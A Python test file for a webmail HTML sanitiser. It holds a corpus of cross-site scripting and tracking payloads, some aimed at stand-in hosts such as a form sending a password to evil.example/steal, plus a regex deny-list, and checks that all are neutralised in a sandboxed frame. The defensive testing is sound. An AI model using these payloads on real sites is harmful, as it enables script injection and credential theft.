"""A corpus of hostile HTML mail is rendered inert, through the sanitiser and the served frame."""

from __future__ import annotations

import re

from twisted.trial.unittest import SynchronousTestCase

from pymail.web.sanitize import sanitise_html
from web_support import make_world

#: (name, hostile HTML).  Each must lose every way to run script, load
#: anything remote, submit or navigate by itself, or overlay the page.
HOSTILE = [
    ("script", "<p>hi</p><script>alert(document.cookie)</script>"),
    ("script-case", "<ScRiPt SRC=//evil.example/x.js></sCrIpT>"),
    ("event-handler", '<img src="data:image/png;base64,AAAA" onerror="alert(1)">'),
    ("body-onload", '<body onload="alert(1)"><p>x</p></body>'),
    ("javascript-link", '<a href="javascript:alert(1)">click</a>'),
    ("javascript-link-entities", '<a href="&#106;avascript:alert(1)">click</a>'),
    ("javascript-link-spaces", '<a href=" javascript:alert(1)">click</a>'),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">click</a>'),
    ("data-html-link",
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-onload", '<svg onload="alert(1)"><circle r="10"/></svg>'),
    ("svg-image", '<svg><image href="https://tracker.example/p.png"/></svg>'),
    ("svg-data-img", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("math", '<math><mtext><script>alert(1)</script></mtext></math>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("object", '<object data="https://evil.example/x.swf"></object>'),
    ("embed", '<embed src="https://evil.example/x.swf">'),
    ("form", '<form action="https://evil.example/steal"><input name="password"></form>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style-sheet", "<style>body{background:url(https://tracker.example/s.gif)}</style>"),
    ("style-import", "<style>@import url(https://evil.example/x.css);</style>"),
    ("style-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
                      'z-index:9999">fake login</div>'),
    ("style-url", '<p style="background-image:url(https://tracker.example/bg.gif)">x</p>'),
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("tracker-pixel", '<img src="https://tracker.example/open.gif?id=42" width="1" height="1">'),
    ("tracker-http", '<img src="http://tracker.example/open.gif">'),
    ("tracker-protocol-relative", '<img src="//tracker.example/open.gif">'),
    ("tracker-srcset", '<img srcset="https://tracker.example/a.png 1x">'),
    ("tracker-background-attr", '<table background="https://tracker.example/t.gif"><tr><td>x'),
    ("comment-trick", "<!--<img src=x onerror=alert(1)>-->"),
    ("noscript-trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("unclosed-attr", '<img src="x" alt="a onerror=alert(1)//'),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("xlink", '<a xlink:href="javascript:alert(1)">x</a>'),
]

#: Nothing of these may survive (checked case-insensitively).
FORBIDDEN = [r"<script", r"\bon[a-z]+\s*=", r"javascript:", r"vbscript:", r"<svg", r"<math",
             r"<iframe", r"<object", r"<embed", r"<form", r"<meta", r"<base", r"<link",
             r"<style", r"position\s*:", r"url\(", r"expression\(", r"tracker\.example",
             r"evil\.example", r"data:text", r"data:image/svg", r"<button", r"srcset"]


def inert(html: str) -> list[str]:
    """The forbidden patterns found in ``html``."""
    return [p for p in FORBIDDEN if re.search(p, html, re.IGNORECASE)]


class SanitiserTests(SynchronousTestCase):
    def test_hostile_corpus_is_inert(self) -> None:
        """Every hostile sample loses its scripts, handlers, remote loads and overlays."""
        for name, html in HOSTILE:
            clean = sanitise_html(html).html
            self.assertEqual(inert(clean), [], f"{name}: {clean!r}")

    def test_remote_images_blocked_until_asked(self) -> None:
        """A remote image is dropped and counted; kept when the reader asks."""
        html = '<p>Hi</p><img src="https://images.example.com/logo.png" alt="logo">'
        blocked = sanitise_html(html)
        self.assertEqual(blocked.blocked_images, 1)
        self.assertNotIn("images.example.com", blocked.html)
        shown = sanitise_html(html, allow_remote_images=True)
        self.assertIn('src="https://images.example.com/logo.png"', shown.html)

    def test_harmless_formatting_survives(self) -> None:
        """Paragraphs, links, tables, colours and embedded cid: images are kept."""
        html = ('<p style="color: red; font-weight: bold">Red</p><a href="https://ok.example/">'
                'link</a><table><tr><td>cell</td></tr></table><img src="cid:logo@x">')
        clean = sanitise_html(html, inline_images={"<logo@x>": ("image/png", b"\x89PNG")}).html
        self.assertIn('<p style="color:red;font-weight:bold">Red</p>', clean)
        self.assertIn('href="https://ok.example/"', clean)
        self.assertIn('rel="noopener noreferrer nofollow"', clean)
        self.assertIn("<td>cell</td>", clean)
        self.assertIn('src="data:image/png;base64,iVBORw=="', clean)


class ServedFrameTests(SynchronousTestCase):
    def test_hostile_mail_served_inert_in_a_sandboxed_frame(self) -> None:
        """Each hostile message's HTML frame is inert, scriptless by CSP and sandboxed."""
        world = make_world()
        for name, html in HOSTILE:
            world.deliver("alice@example.org", (
                f"From: x@example.net\r\nSubject: {name}\r\nMIME-Version: 1.0\r\n"
                f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n").encode())
        browser = world.browser()
        browser.sign_in("alice@example.org")
        for uid, (name, _) in enumerate(HOSTILE, 1):
            page = browser.get(f"/mail/INBOX/{uid}")
            self.assertEqual(page.status, 200, name)
            self.assertIn('sandbox="allow-popups allow-popups-to-escape-sandbox"', page.text)
            frame = browser.get(f"/mail/INBOX/{uid}/html")
            body = frame.text.split("<body>", 1)[1]
            self.assertEqual(inert(body), [], f"{name}: {body!r}")
            csp = frame.header("content-security-policy") or ""
            self.assertIn("default-src 'none'", csp)
            self.assertIn("sandbox", csp)
            self.assertNotIn("script-src", csp)
            self.assertIn("img-src data:;", csp)
